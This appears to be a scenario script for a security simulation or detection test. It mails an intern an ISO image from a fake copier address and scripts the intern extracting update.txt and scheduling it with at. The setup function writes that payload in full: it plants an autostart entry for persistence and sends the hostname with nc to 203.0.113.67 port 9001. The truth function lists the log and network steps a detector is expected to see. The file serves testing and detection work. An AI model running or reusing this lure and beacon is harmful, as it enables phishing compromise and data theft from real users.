title="A script out of a mailed ISO image handed to at(1)"
what="intern saves scan.iso with mutt, lists it with isoinfo, extracts one file with it and gives it to at: 'at -f'. atd runs the copy in its spool a minute later, as sh with the job on standard input; it writes ~/.config/autostart and connects to 203.0.113.67 port 9001."
host=mx1.example.org user=intern daemons="cron sshd atd" store=mbox
setup() {
  mkdir -p "$base/out/iso"; printf 'mkdir -p $HOME/.config/autostart\nprintf "[Desktop Entry]\\nType=Application\\nExec=true\\n" > $HOME/.config/autostart/scan.desktop\n(echo; uname -n) | nc -w 2 203.0.113.67 9001\n' > "$base/out/iso/update.txt"
  echo "scanned page" > "$base/out/iso/page1.txt"
  genisoimage -quiet -R -o "$base/out/scan.iso" "$base/out/iso"
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/intern/.muttrc; chown intern: /home/intern/.muttrc
}
act() {
  mail_in --from copier@example.net --to intern@example.org --subject "Scan from copier 3" --source 203.0.113.43 --helo host43.example.net --text "Scan enclosed. If pages are missing: at -f update.txt now\n" --attach "$base/out/scan.iso:application/x-iso9660-image"
  wait_mail intern 1
  ssh_as intern <<'L'
%saves mutt
isoinfo -R -f -i scan.iso
isoinfo -R -i scan.iso -x /update.txt > u
%sleep 2
at -f u now
atq
%sleep 5
rm u scan.iso
L
  sleep 5; small_talk 1
}
truth() {
  mail_step deliver 'to=<intern@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE /home/intern/.*scan.iso' 'saved'
  exec_step extract 'isoinfo -R -i scan.iso -x /update.txt' 'one file extracted'
  exec_step job 'at -f u now' 'handed to at'
  net_step beacon 'nc.* 203.0.113.67:9001' 'the job calls out'
}
